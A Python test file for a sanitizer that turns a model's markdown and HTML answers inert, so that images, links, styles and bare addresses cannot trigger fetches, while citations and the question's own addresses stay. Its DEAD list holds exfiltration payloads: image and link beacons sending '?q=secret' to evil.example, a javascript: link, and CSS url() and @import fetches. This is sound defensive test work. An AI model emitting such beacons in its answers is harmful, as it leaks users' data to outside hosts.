"""Nothing that a model says fetches anything, however it is cut into pieces."""

import itertools
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from roundhouse.features.knowledge.answering.inert import Inert, inert, urls_of

QUESTION = "What does https://good.example/page say?"
EVIL = "https://evil.example/p.png?q=secret"

DEAD = [
    f"![x]({EVIL})",
    f"[click here]({EVIL})",
    f"![x](<{EVIL}>)",
    f"![x](\n{EVIL})",
    "![x](//evil.example/p.png)",
    "[x](javascript:alert(1))",
    "![x](data:image/png;base64,AAAA)",
    f"![x][1]\n\n[1]: {EVIL}",
    f"![x][beacon]\n\n[beacon]: {EVIL}",
    f"![x][beacon]\n\n[beacon]:\n{EVIL}",
    f"![1]({EVIL})",
    f'<img src="{EVIL}">',
    f"<img src={EVIL}",
    f"<IMG\nSRC='{EVIL}'>",
    f'<div style="background:url({EVIL})">x</div>',
    f"<style>@import url({EVIL})</style>",
    f"<!-- {EVIL} -->",
    f"<{EVIL}>",
    f"See {EVIL} now.",
    "www.evil.example/x",
    f"<svg><image href='{EVIL}'/></svg>",
    "https://good.example/page.evil.example/x",
]


def rendered(text: str) -> str:
    """HTML of a text, as a client with raw HTML and bare addresses switched on makes it."""
    markdown = pytest.importorskip("markdown_it").MarkdownIt("commonmark", {"html": True})
    html: str = markdown.render(text)
    return html


@pytest.mark.parametrize("text", DEAD)
def test_what_could_fetch_is_text(text):
    said = inert(text, QUESTION, {1})
    html = rendered(said)
    assert not re.search(r"<(?!(?:p|code|em|strong|ul|ol|li|pre|h\d|br|hr|blockquote)\b)[a-zA-Z!]", html), (
        html
    )
    # A bare address would become a link in many clients; code does not.
    assert "evil.example" not in re.sub(r"<code>.*?</code>", "", html, flags=re.S) or "://" not in re.sub(
        r"<code>.*?</code>", "", html, flags=re.S
    )


def test_addresses_of_the_question_stay():
    said = inert(f"See https://good.example/page, and [it](https://good.example/page) not {EVIL}.", QUESTION)
    assert "See https://good.example/page, and [it](https://good.example/page) not" in said
    assert f"`{EVIL}`." in said


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("It is so [1].", "It is so [1]."),
        ("It is so [7].", "It is so."),
        ("It is so [1, 7] and [1][2].", "It is so [1] and [1][2]."),
        ("是这样【2】。", "是这样[2]。"),
        ("In 1999 [1] [12]", "In 1999 [1]"),
        ("a[10] = b[i]", "a = b[i]"),
        ("a < b and b > c, x <b> y", "a < b and b > c, x <b> y"),
        ("Time: 10:30. Ratio 3://4", "Time: 10:30. Ratio 3://4"),
        ("A `code` and *emphasis* (in brackets).", "A `code` and *emphasis* (in brackets)."),
    ],
)
def test_marks_that_point_nowhere_are_gone_and_text_stays(text, said):
    assert inert(text, "", {1, 2}) == said


def test_marks_are_left_alone_where_nothing_can_be_cited():
    assert inert("See [7].", "") == "See [7]."


_PARTS = """
    ![ ]( [ ] ( ) < > img src= https :// evil.example / ` https://evil.example/x ![b][a] ** 1 [1] [9] , . word www.
    ]: www 《 【1】 a=b // : !
"""
_PIECES = st.lists(st.sampled_from([*_PARTS.split(), " ", "\n", "\n\n", "[a]: ", "<img src=x>"]), max_size=24)


@given(_PIECES, st.lists(st.integers(0, 120), max_size=12))
def test_the_pieces_in_which_a_text_comes_change_nothing(pieces, cuts):
    text = "".join(pieces)
    one = Inert(QUESTION, {1})
    places = sorted({min(cut, len(text)) for cut in cuts} | {0, len(text)})
    said = [one.feed(text[start:end]) for start, end in itertools.pairwise(places)]
    assert "".join(said) + one.end() == inert(text, QUESTION, {1})


@given(_PIECES)
def test_no_picture_and_no_link_is_ever_left(pieces):
    html = rendered(inert("".join(pieces), QUESTION, {1}))
    assert not re.search(r"<(?:img|a)\b", html), html


def test_an_opened_tag_is_not_waited_for_without_end():
    one = Inert("")
    said = one.feed("<img " + "x" * 3000)
    assert said.startswith("&lt;img")
    assert one.feed(" more text ") + one.end() == " more text "


@pytest.mark.parametrize(
    "text", ["a" * 200_000, "<" * 200_000, "]:" * 100_000, "[1" * 100_000, "![" * 100_000]
)
def test_a_long_answer_takes_no_long_time(text):
    assert len(inert(text, "", {1})) >= len(text)


def test_addresses_are_found_without_the_marks_behind_them():
    assert urls_of("See (https://a.example/x), https://b.example. And www.c.example!") == {
        "https://a.example/x",
        "https://b.example",
        "www.c.example",
    }
